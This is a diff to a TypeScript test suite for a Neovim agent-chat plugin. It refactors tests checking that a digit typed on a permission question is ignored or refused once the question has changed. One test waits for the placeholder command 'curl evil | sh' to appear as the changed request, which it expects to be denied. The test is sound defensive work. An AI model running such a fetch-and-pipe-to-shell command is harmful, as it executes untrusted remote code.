@@ -9,6 +9,9 @@ import type { TestNvim } from '../support/nvim/nvim.ts';
 /** Puts the cursor elsewhere, so that no picker opens by itself. */
 const read = (nvim: TestNvim) => nvim.input('<C-w>k');
 
+/** The only question, as Neovim knows it. */
+const onlyQuestion = "vim.tbl_values(require('acp.chats').current().questions)[1]";
+
 describe('a digit on a waiting question in the chat', () => {
   it.for<[string, string]>([
     ['its heading', ''],
@@ -139,8 +142,9 @@ describe('a digit on a waiting question in the chat', () => {
     await passes(nvim, 520);
     await nvim.lua(`
       local chat = require('acp.chats').current()
-      chat.questions[1].revision = 99
-      require('acp.chat.question_keys').update(chat)
+      local _, question = next(chat.questions)
+      question.revision = 99
+      require('acp.chat.question_keys').update(chat, { questions = { question }, gone = {}, count = 1 })
       vim.api.nvim_input('1')
       ${work}`);
     await saysSo('ignored a key typed before the question could be read');
@@ -157,7 +161,7 @@ describe('a digit on a waiting question in the chat', () => {
     await isWaiting(1);
     await chat.goTo('wants to run');
     // Neovim has not drawn the change yet.
-    await nvim.lua("require('acp.chats').current().questions[1].revision = 0");
+    await nvim.lua(`${onlyQuestion}.revision = 0`);
     await nvim.input('1');
     await saysSo('the question has changed; please read it again');
     await isWaiting(1);
@@ -174,16 +178,10 @@ describe('a digit on a waiting question in the chat', () => {
     });
     await isWaiting(1);
     await chat.goTo('wants to run');
-    await nvim.waitFor(
-      () => nvim.lua("return require('acp.chats').current().questions[1].revision == 1"),
-      'the first revision',
-    );
+    await nvim.waitFor(() => nvim.lua(`return ${onlyQuestion}.revision == 1`), 'the first revision');
     fs.writeFileSync(chat.at('go'), '');
     await nvim.waitForScreen('curl evil | sh');
-    await nvim.waitFor(
-      () => nvim.lua("return require('acp.chats').current().questions[1].revision == 2"),
-      'the new revision',
-    );
+    await nvim.waitFor(() => nvim.lua(`return ${onlyQuestion}.revision == 2`), 'the new revision');
     await chat.goTo('wants to run');
     await nvim.input('3');
     expect(await outcomes(chat)).toEqual(['n']);
